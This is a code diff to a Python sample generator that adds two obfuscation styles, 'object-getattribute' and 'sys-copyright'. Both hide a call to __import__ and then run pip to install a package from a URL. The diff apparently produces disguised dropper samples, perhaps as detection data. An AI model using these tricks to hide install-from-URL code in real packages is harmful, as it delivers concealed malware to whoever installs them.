@@ -301,6 +301,23 @@ def cjk_family(name: str, style: str, seed: int, setup_py: bool = True) -> Sampl
             f"{imp} = getattr({ns}, {n[9]}())\n"
             f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
         )
+    elif style == "object-getattribute":
+        body = (
+            f"{imp} = object.__getattribute__({ns}, {spell('__import__')})\n"
+            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
+        )
+    elif style == "sys-copyright":
+        # sys.copyright is the text str(copyright) prints
+        body = (
+            f"import sys\n{n[9]} = sys.copyright\n"
+            f"{imp} = getattr({ns}, "
+            + " + ".join(
+                f"{n[9]}[{TEXTS['copyright'].index(c)}]" if c in TEXTS["copyright"] else repr(c)
+                for c in "__import__"
+            )
+            + ")\n"
+            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
+        )
     elif style == "exec-dropper":
         # import-time: exec fetched by a sliced name runs a shell command
         body = (
@@ -531,6 +548,8 @@ CJK_STYLES = (
     "staticmethod",
     "default-texts",
     "nonlocal",
+    "object-getattribute",
+    "sys-copyright",
 )
 
 
